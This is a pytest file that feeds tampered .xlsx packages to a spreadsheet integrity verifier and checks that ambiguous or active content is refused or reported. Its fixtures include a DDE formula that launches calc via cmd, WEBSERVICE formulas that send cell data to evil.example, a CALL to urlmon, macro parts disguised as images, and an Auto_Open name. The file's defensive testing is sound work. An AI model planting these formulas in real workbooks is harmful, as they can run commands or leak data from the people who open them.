"""A package that two programs could read in two ways, that could act, or that no program wrote: refused, or named by type."""

from __future__ import annotations

import re
import zipfile
from typing import TYPE_CHECKING

import pytest
from support.books import small_book
from support.parts import sheet_parts
from support.repack import BOOK, BOOK_RELS, TYPES, cell_xml
from support.tamper import (
    EVIL,
    added,
    before_margins,
    changed,
    charted,
    entry,
    formula,
    front,
    in_sheet,
    linked,
    number,
    outside,
    related,
    replaced,
    rewrite,
    sign_off,
    text,
    with_cell,
)

from specxl.errors import WorkbookFileError
from specxl.returned import verify_file

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from support.tamper import Parts

    Change = Callable[[Parts], None]

SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
BOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
FORGED = "the costs were certified"


def first_part() -> str:
    """Return the part of the first sheet."""
    return sheet_parts(small_book())[front(small_book())]


def forged(xml: str, address: str) -> str:
    """Return the element of a cell with another text in it."""
    cell = cell_xml(xml, address)
    look = re.search(r' s="\d+"', cell)
    return f'<c r="{address}"{look[0] if look else ""} t="inlineStr"><is><t>{FORGED}</t></is></c>'


def second_workbook(parts: Parts) -> None:
    """A second workbook elsewhere, named by the package, while the honest one stays where it was."""
    for name in [name for name in parts if name.startswith("xl/")]:
        parts[name.replace("xl/", "ev/", 1)] = parts[name]
    overrides = re.findall(r'<Override PartName="/xl/[^>]*>', parts[TYPES].decode())
    more = "".join(item.replace("/xl/", "/ev/", 1) for item in overrides)
    parts[TYPES] = parts[TYPES].decode().replace("</Types>", more + "</Types>").encode()
    parts["_rels/.rels"] = parts["_rels/.rels"].decode().replace("xl/workbook.xml", "ev/workbook.xml").encode()


def moved_workbook(parts: Parts) -> None:
    """The same, but the honest copy has lost its content type, so that one workbook part is left."""
    second_workbook(parts)
    parts[TYPES] = re.sub(r'<Override PartName="/xl/workbook.xml"[^>]*>', "", parts[TYPES].decode()).encode()
    del parts["_rels/.rels"]


def repeated_relation(parts: Parts) -> None:
    """One relation's id twice, the first leading to a forged sheet."""
    part = first_part()
    parts["xl/worksheets/forged.xml"] = parts[part]
    rels = parts[BOOK_RELS].decode()
    own = re.search(rf'<Relationship Id="([^"]+)"[^>]*Target="{part.removeprefix("xl/")}"[^>]*>', rels)
    assert own
    other = own[0].replace(part.removeprefix("xl/"), "worksheets/forged.xml")
    parts[BOOK_RELS] = rels.replace(own[0], other + own[0]).encode()
    added("xl/worksheets/forged.xml", parts[part], SHEET_TYPE)(parts)


def upper_twin(parts: Parts) -> None:
    """A part whose name differs from a sheet's only by case."""
    folder, _, name = first_part().rpartition("/")
    parts[f"{folder}/{name.upper()}"] = parts[first_part()]


def encoded_twin(parts: Parts) -> None:
    """A part whose name is a sheet's when its signs are decoded."""
    folder, _, name = first_part().rpartition("/")
    parts[f"{folder}/%{ord(name[0]):02x}{name[1:]}"] = parts[first_part()]


def with_twin_cell(*, forged_first: bool) -> Callable[[str], str]:
    """A cell that stands twice in its row."""
    address = text(small_book(), front(small_book()))[1]

    def edit(xml: str) -> str:
        cell, other = cell_xml(xml, address), forged(xml, address)
        return xml.replace(cell, other + cell if forged_first else cell + other)

    return edit


def twin_row(xml: str) -> str:
    """A row that stands twice, the forged one first."""
    row = re.search(r"<row .*?</row>", xml, re.DOTALL)
    assert row
    address = text(small_book(), front(small_book()))[1]
    return xml.replace(row[0], row[0].replace(cell_xml(xml, address), forged(xml, address)) + row[0], 1)


def twin_data(xml: str) -> str:
    """The data of a sheet twice, the forged one first."""
    data = re.search(r"<sheetData>.*</sheetData>", xml, re.DOTALL)
    assert data
    address = text(small_book(), front(small_book()))[1]
    return xml.replace(data[0], data[0].replace(cell_xml(xml, address), forged(xml, address)) + data[0])


def text_beside_value(xml: str) -> str:
    """A cell with both a shared text and a text of its own."""
    cell = cell_xml(xml, text(small_book(), front(small_book()))[1])
    return xml.replace(cell, cell.replace("</c>", f"<is><t>{FORGED}</t></is></c>"))


def alternative(xml: str) -> str:
    """Data for programs that know another namespace."""
    data = re.search(r"<sheetData>.*</sheetData>", xml, re.DOTALL)
    assert data
    space = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    other = f'<mc:AlternateContent {space}><mc:Choice Requires="x14">{data[0]}</mc:Choice></mc:AlternateContent>'
    return xml.replace(data[0], other + data[0])


def twin_link(xml: str) -> str:
    """A link that stands twice, leading to two places."""
    link = re.search(r"<hyperlink [^>]*/>", xml)
    assert link
    return xml.replace(link[0], re.sub(r'location="[^"]*"', 'location="A9"', link[0]) + link[0], 1)


def two_sheets_of_one_part(xml: str) -> str:
    """Two entries of the list of sheets with one relation."""
    own = re.search(r'<sheet [^>]*r:id="([^"]+)"/>', xml)
    assert own
    return xml.replace("</sheets>", f'<sheet name="Twin" sheetId="998" r:id="{own[1]}"/></sheets>')


def two_relations_to_one_part(parts: Parts) -> None:
    """Two entries of the list of sheets whose relations lead to one part."""
    related(BOOK, "worksheet", first_part().removeprefix("xl/"))(parts)
    entry = '<sheet name="Twin" sheetId="998" r:id="rIdAdded"/></sheets>'
    parts[BOOK] = parts[BOOK].decode().replace("</sheets>", entry).encode()


TWO_READINGS: dict[str, Callable[[], tuple[Change, ...]]] = {
    "second workbook": lambda: (second_workbook,),
    "second workbook, no relations": lambda: (moved_workbook,),
    "second workbook relation": lambda: (related("", "officeDocument", "xl/workbook.xml"),),
    "repeated relation": lambda: (repeated_relation,),
    "names equal but for case": lambda: (upper_twin,),
    "names equal when decoded": lambda: (encoded_twin,),
    "forged cell first": lambda: (in_sheet(small_book(), front(small_book()), with_twin_cell(forged_first=True)),),
    "forged cell last": lambda: (in_sheet(small_book(), front(small_book()), with_twin_cell(forged_first=False)),),
    "row": lambda: (in_sheet(small_book(), front(small_book()), twin_row),),
    "sheet data": lambda: (in_sheet(small_book(), front(small_book()), twin_data),),
    "text beside value": lambda: (in_sheet(small_book(), front(small_book()), text_beside_value),),
    "alternative": lambda: (in_sheet(small_book(), front(small_book()), alternative),),
    "link": lambda: (in_sheet(small_book(), front(small_book()), twin_link),),
    "sheet of one relation": lambda: (changed(BOOK, two_sheets_of_one_part),),
    "sheet of one part": lambda: (two_relations_to_one_part,),
    "sheet names": lambda: (
        added("xl/worksheets/own.xml", b"<a/>", SHEET_TYPE),
        related(BOOK, "worksheet", "worksheets/own.xml"),
        replaced(BOOK, "</sheets>", f'<sheet name="{front(small_book()).upper()}" sheetId="9" r:id="rIdAdded"/></sheets>'),
    ),
    "content type": lambda: (replaced(TYPES, f'PartName="/{first_part()}" ContentType="{SHEET_TYPE}"', f'PartName="/{first_part()}" ContentType="application/xml"'),),
    "texts without a namespace": lambda: (changed("xl/sharedStrings.xml", lambda xml: re.sub(r' xmlns="[^"]*"', "", xml, count=1)),),
    "relations without a namespace": lambda: (changed(BOOK_RELS, lambda xml: re.sub(r' xmlns="[^"]*"', "", xml, count=1)),),
    "cells of another namespace": lambda: (in_sheet(small_book(), front(small_book()), lambda xml: xml.replace("<sheetData>", '<sheetData xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main">')),),
    "cells of the namespace of relations": lambda: (in_sheet(small_book(), front(small_book()), lambda xml: xml.replace("<worksheet ", '<worksheet xmlns="http://schemas.openxmlformats.org/package/2006/relationships" ').replace(' xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"', "")),),
    "relation without an id": lambda: (changed(BOOK_RELS, lambda xml: re.sub(r' Id="[^"]*"(?=[^>]*sharedStrings)', "", xml)),),
    "relation without a type": lambda: (changed(BOOK_RELS, lambda xml: re.sub(r' Type="[^"]*styles"', "", xml)),),
    "another version of XML": lambda: (replaced("xl/sharedStrings.xml", 'version="1.0"', 'version="1.1"'),),
    "property": lambda: (
        changed("docProps/custom.xml", lambda xml: re.sub(r"(<property [^>]*>.*?</property>)", r"\1\1", xml, count=1)),
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", TWO_READINGS, ids=str)
def test_a_package_with_two_readings_is_refused(case: str, tmp_path: Path) -> None:
    """What two programs could show differently is not verified at all, and one sentence says why."""
    copy = rewrite(small_book(), tmp_path / "two.xlsx", *TWO_READINGS[case]())
    with pytest.raises(
        WorkbookFileError, match=r"two ways|no \.xlsx workbook|name none|begins with|of the version"
    ) as caught:
        verify_file(copy)
    assert str(caught.value).startswith(f"{copy}: ")
    assert "\n" not in str(caught.value)


def test_the_workbook_is_found_by_relations(tmp_path: Path) -> None:
    """A workbook whose parts all have other names is the same workbook: names of parts mean nothing."""

    def renamed(parts: Parts) -> None:
        for name in [name for name in parts if name.startswith("xl/")]:
            parts[name.replace("xl/", "book/", 1)] = parts.pop(name)
        for name in (TYPES, "_rels/.rels"):
            parts[name] = parts[name].replace(b"xl/", b"book/")

    assert verify_file(rewrite(small_book(), tmp_path / "named.xlsx", renamed)).outcome == "unchanged"


# What could act


def macro_sheet(parts: Parts) -> None:
    """An Excel 4 macro sheet under the name of a worksheet."""
    related(BOOK, f"{MICROSOFT}/xlMacrosheet", "worksheets/m.xml")(parts)
    added("xl/worksheets/m.xml", b"<a/>", "application/vnd.ms-excel.macrosheet+xml")(parts)


def utf16_relation(parts: Parts) -> None:
    """A picture from the web, named in relations that are written in UTF-16."""
    rels = first_part().replace("worksheets/", "worksheets/_rels/") + ".rels"
    outside(first_part(), "image", "http://evil.example/p.png")(parts)
    text = parts[rels].decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    parts[rels] = text.encode("utf-16")


def spreadsheet(name: str) -> str:
    """Return the content type of a spreadsheet's part."""
    return f"application/vnd.openxmlformats-officedocument.spreadsheetml.{name}+xml"


ACTIVE: dict[str, tuple[tuple[Change, ...], str]] = {
    "macro under another name": ((
        added("xl/theme/t.bin", b"\x00", "application/vnd.ms-office.vbaProject"),
        related(BOOK, f"{MICROSOFT}/vbaProject", "theme/t.bin"),
    ), "xl/theme/t.bin: a macro"),
    "macro by its relation alone": ((
        added("xl/theme/t.bin", b"\x00", "image/png"), related(BOOK, f"{MICROSOFT}/vbaProject", "theme/t.bin"),
    ), "xl/theme/t.bin: a macro"),
    "macro by its type alone": ((
        added("xl/media/p.png", b"\x00", "Application/vnd.ms-office.VBAPROJECT; a=b"),
    ), "xl/media/p.png: a macro"),
    "macro sheet": ((macro_sheet,), "xl/worksheets/m.xml: a macro"),
    "DDE link": ((
        added("xl/el/e1.xml", b"<a/>", spreadsheet("externalLink")), related(BOOK, "externalLink", "el/e1.xml"),
    ), "xl/el/e1.xml: a link to another file"),
    "connection": ((
        added("xl/cn.xml", b"<a/>", spreadsheet("connections")), related(BOOK, "connections", "cn.xml"),
    ), "xl/cn.xml: a data connection"),
    "OLE object": ((
        added("xl/media/o.bin", b"\x00", "application/vnd.openxmlformats-officedocument.oleObject"),
    ), "xl/media/o.bin: an embedded object"),
    "picture from the web, single quotes": ((
        related("xl/drawings/drawing1.xml", "image", "http://evil.example/p.png", mode=" TargetMode='External'"),
    ), "a link to another file (http://evil.example/p.png)"),
    "picture from the web, blanks": ((
        related("xl/drawings/drawing1.xml", "image", "http://evil.example/p.png", mode=' TargetMode = "External"'),
    ), "a link to another file (http://evil.example/p.png)"),
    "picture from the web, escaped": ((
        related("xl/drawings/drawing1.xml", "image", "http://evil.example/p.png", mode=' TargetMode="&#69;xternal"'),
    ), "a link to another file (http://evil.example/p.png)"),
    "template": ((outside("", "attachedTemplate", "file:///c:/t.xltm"),), "a link to another file (file:///c:/t.xltm)"),
    "type that nobody writes": ((added("xl/evil.bin", b"\x00", "application/x-evil"),), "xl/evil.bin: a part of a type"),
    "no type at all": ((lambda parts: parts.update({"xl/evil.zzz": b"\x00"}),), "xl/evil.zzz: a part of a type"),
    "relation that nobody writes": ((
        added("xl/p.xml", b"<a/>", "application/xml"), related(BOOK, "http://evil.example/relations/run", "p.xml"),
    ), "xl/p.xml: a relation that no known program writes (run)"),
    "formula of a table": ((
        changed(
            "xl/tables/table1.xml",
            lambda xml: re.sub(
                r'<tableColumn id="2" name="([^"]*)"/>',
                r'<tableColumn id="2" name="\1"><calculatedColumnFormula>WEBSERVICE("http://e.example")</calculatedColumnFormula></tableColumn>',
                xml,
            ),
        ),
    ), "xl/tables/table1.xml: a formula in a table"),
    "pivot table over another source": ((
        added("xl/pc.xml", b'<pivotCacheDefinition><cacheSource type="external"/></pivotCacheDefinition>', spreadsheet("pivotCacheDefinition")),
        related(BOOK, "pivotCacheDefinition", "pc.xml"),
    ), "xl/pc.xml: a data connection"),
    "pivot table over a source in other words": ((
        added("xl/pc.xml", b'<x:pivotCacheDefinition><x:cacheSource  connectionId="1" type="&#101;xternal"/></x:pivotCacheDefinition>', spreadsheet("pivotCacheDefinition")),
        related(BOOK, "pivotCacheDefinition", "pc.xml"),
    ), "xl/pc.xml: a data connection"),
    "pivot table that refreshes itself": ((
        added("xl/pc.xml", b"<pivotCacheDefinition refreshOnLoad = '1'><cacheSource type='worksheet'/></pivotCacheDefinition>", spreadsheet("pivotCacheDefinition")),
        related(BOOK, "pivotCacheDefinition", "pc.xml"),
    ), "xl/pc.xml: a pivot table that is refreshed"),
    "Power Query": ((
        added("customXml/item1.xml", b'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AA</DataMashup>', "application/xml"),
        related(BOOK, "customXml", "../customXml/item1.xml"),
    ), "customXml/item1.xml: a query of Power Query"),
    "Power Query in UTF-16": ((
        added("customXml/item1.xml", '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AA</DataMashup>'.encode("utf-16"), "text/xml"),
        related(BOOK, "customXml", "../customXml/item1.xml"),
    ), "customXml/item1.xml: a query of Power Query"),
}  # fmt: skip


@pytest.mark.parametrize("case", ACTIVE, ids=str)
def test_content_that_could_act_is_named_by_type(case: str, tmp_path: Path) -> None:
    """Parts and relations are judged by their types, whatever the parts are called and however the XML is written."""
    changes, expected = ACTIVE[case]
    report = verify_file(rewrite(small_book(), tmp_path / "active.xlsx", *changes))
    assert [found for found in report.active_content if expected in found] != []
    assert (report.outcome, report.exit_status) == ("altered", 1)


def test_content_that_could_act_from_a_sheet(tmp_path: Path) -> None:
    """A sheet that names another file, and relations in UTF-16."""
    for change in (outside(first_part(), "externalLinkPath", "file://evil/x.xlsx"), utf16_relation):
        report = verify_file(rewrite(small_book(), tmp_path / "active.xlsx", change))
        assert [found for found in report.active_content if "a link to another file" in found] != []


def test_what_programs_add_when_they_save_is_no_content_that_could_act(tmp_path: Path) -> None:
    """Printer settings, calculation chains, labels of sensitivity, Google's metadata, thumbnails, people's own properties."""
    copy = rewrite(
        small_book(),
        tmp_path / "saved.xlsx",
        added("xl/printerSettings/p1.bin", b"\x00", "application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"),
        related(first_part(), "printerSettings", "../printerSettings/p1.bin"),
        added("xl/calcChain.xml", b"<a/>", spreadsheet("calcChain")),
        related(BOOK, "calcChain", "calcChain.xml", "rIdChain"),
        added("docMetadata/LabelInfo.xml", b"<a/>", "application/vnd.ms-office.classificationlabels+xml"),
        related("", "http://schemas.microsoft.com/office/2020/02/relationships/classificationlabels", "docMetadata/LabelInfo.xml"),
        added("xl/metadata", b"\x00", "application/binary"),
        related(BOOK, "http://customschemas.google.com/relationships/workbookmetadata", "metadata"),
        added("docProps/thumbnail.jpeg", b"\x00", "image/jpeg"),
        related("", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail", "docProps/thumbnail.jpeg", "rIdT"),
        added("customXml/item1.xml", b"<a/>", "application/xml"),
        related(BOOK, "customXml", "../customXml/item1.xml", "rIdX"),
    )  # fmt: skip
    report = verify_file(copy)
    assert (report.outcome, report.active_content) == ("unchanged", ())


# Formulas and links that could act


def acting_formula(cell: str, formula_text: str) -> Callable[[], tuple[Change, ...]]:
    """A formula in an input, a sign-off line or a locked formula cell of the workbook."""
    find = {"input": entry, "sign-off": sign_off, "formula": lambda path: formula(path, "Results")}[cell]

    def changes() -> tuple[Change, ...]:
        sheet, address = find(small_book())
        return (in_sheet(small_book(), sheet, with_cell(address, f"<f>{formula_text}</f><v>1</v>")),)

    return changes


ACTING = {
    "WEBSERVICE signed": (acting_formula("sign-off", 'WEBSERVICE("http://evil.example/"&amp;A1)'), "WEBSERVICE"),
    "HYPERLINK entered": (acting_formula("input", 'HYPERLINK("https://evil.example",1)'), "HYPERLINK"),
    "HYPERLINK in small letters": (acting_formula("sign-off", 'hyperlink ("https://evil.example","OK")'), "HYPERLINK"),
    "CALL entered": (acting_formula("input", 'CALL("urlmon","x")'), "CALL"),
    "DDE entered": (acting_formula("input", "cmd|'/c calc'!A0"), "a reference to another file"),
    "other file entered": (acting_formula("input", "'[evil.xlsx]Sheet 1'!A1"), "a reference to another file"),
    "IMAGE in a formula": (acting_formula("formula", '_xlfn.IMAGE("https://evil.example")'), "_XLFN.IMAGE"),
    "TODAY signed": (acting_formula("sign-off", "TODAY()"), "TODAY"),
}


@pytest.mark.parametrize("case", ACTING, ids=str)
def test_formulas_that_could_act_are_named(case: str, tmp_path: Path) -> None:
    """A function that no build uses, or another file, in any cell of ours; a link where a value is entered."""
    changes, expected = ACTING[case]
    report = verify_file(rewrite(small_book(), tmp_path / "acting.xlsx", *changes()))
    assert [found for found in report.active_content if f": {expected} in a formula" in found] != []
    assert (report.outcome, report.exit_status) == ("altered", 1)


def test_a_harmless_formula_in_an_input_is_an_edit_and_said(tmp_path: Path) -> None:
    """People compute a price in its cell: that is an edited input, and the report says that a formula stands there."""
    sheet, address = entry(small_book())
    copy = rewrite(
        small_book(),
        tmp_path / "input.xlsx",
        in_sheet(small_book(), sheet, with_cell(address, "<f>30*2</f><v>60</v>")),
    )
    report = verify_file(copy)
    assert (report.active_content, report.differences) == ((), ())
    assert [(edit.sheet, edit.cell, edit.new) for edit in report.inputs] == [(sheet, address, "=30*2")]
    assert [note for note in report.noted if f"{sheet} {address}: a formula stands" in note] != []


def test_an_input_that_refers_to_a_sheet_of_ones_own_is_taken_as_stored(tmp_path: Path) -> None:
    """A price from people's own calculation: its stored result counts, and the report says that it was not computed."""
    sheet, address = entry(small_book())
    copy = rewrite(
        small_book(),
        tmp_path / "own.xlsx",
        added("xl/worksheets/own.xml", b'<worksheet xmlns="http://x"/>', SHEET_TYPE),
        related(BOOK, "worksheet", "worksheets/own.xml"),
        replaced(BOOK, "</sheets>", '<sheet name="My model" sheetId="998" r:id="rIdAdded"/></sheets>'),
        in_sheet(small_book(), sheet, with_cell(address, "<f>'My model'!B7</f><v>61</v>")),
    )
    report = verify_file(copy)
    assert report.left_out == (f"{sheet} {address}",)
    assert report.own_sheets == ("My model",)
    assert report.errors == ()


ON: dict[str, Callable[[Path], tuple[str, str]]] = {
    "formula": lambda path: formula(path, "Results"),
    "number": lambda path: number(path, "Measurements"),
    "input": entry,
    "sign-off": sign_off,
}


@pytest.mark.parametrize("target", [EVIL, "file:///c:/evil.exe", "mailto:x@evil.example"])
@pytest.mark.parametrize("on", ON, ids=str)
def test_a_link_is_found_whatever_its_cell_holds(on: str, target: str, tmp_path: Path) -> None:
    """A link laid over a formula, a number or a cell for entries is named with its cell and where it leads."""
    sheet, address = ON[on](small_book())
    part = sheet_parts(small_book())[sheet]
    copy = rewrite(
        small_book(),
        tmp_path / "link.xlsx",
        outside(part, "hyperlink", target),
        in_sheet(small_book(), sheet, linked(address)),
    )
    report = verify_file(copy)
    assert [(d.sheet, d.kind, d.cells) for d in report.differences] == [(sheet, "link", (address,))]
    assert target in str(report.differences[0])
    assert report.exit_status == 1


@pytest.mark.parametrize("area", ["A1:XFD1048576", "XX7", "B900:D905"])
def test_a_link_over_nothing_is_found(area: str, tmp_path: Path) -> None:
    """A link over empty cells, or over far more than one cell, is named with its area; nothing is walked over."""
    sheet = "Curves"
    copy = rewrite(
        small_book(),
        tmp_path / "link.xlsx",
        outside(sheet_parts(small_book())[sheet], "hyperlink", EVIL),
        in_sheet(small_book(), sheet, lambda xml: linked(area)(re.sub(r"<hyperlinks>.*</hyperlinks>", "", xml))),
    )
    report = verify_file(copy)
    assert [d for d in report.differences if d.kind == "link" and EVIL in d.text and area in d.text] != []


def test_rules_and_names_that_could_act_are_named(tmp_path: Path) -> None:
    """A rule for entries, a rule for looks and a defined name are formulas too."""
    sheet = front(small_book())
    rule = '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="99"><formula>WEBSERVICE("http://e.x")=1</formula></cfRule></conditionalFormatting>'
    copy = rewrite(
        small_book(),
        tmp_path / "rules.xlsx",
        in_sheet(small_book(), sheet, lambda xml: xml.replace("<dataValidations", rule + "<dataValidations", 1)),
        in_sheet(small_book(), sheet, lambda xml: xml.replace("<formula1>0.0<", "<formula1>RTD(1)<", 1)),
        replaced(BOOK, "<definedNames>", '<definedNames><definedName name="x">CALL("u")</definedName><definedName name="Auto_Open">A1</definedName>'),
    )  # fmt: skip
    found = verify_file(copy).active_content
    assert f"{sheet} A1: WEBSERVICE in a rule" in found
    assert [item for item in found if item.startswith(f"{sheet} ") and "RTD in a rule" in item] != []
    assert {"the name 'x': CALL", "the name 'Auto_Open': a macro"} <= set(found)


def test_charts_lie_where_the_helper_looks() -> None:
    """The helper finds a chart of the workbook under test."""
    sheet, part = charted(small_book())
    assert part in zipfile.ZipFile(small_book()).namelist()
    assert before_margins("<a/>")("<pageMargins/>") == "<a/><pageMargins/>"
    assert sheet in sheet_parts(small_book())
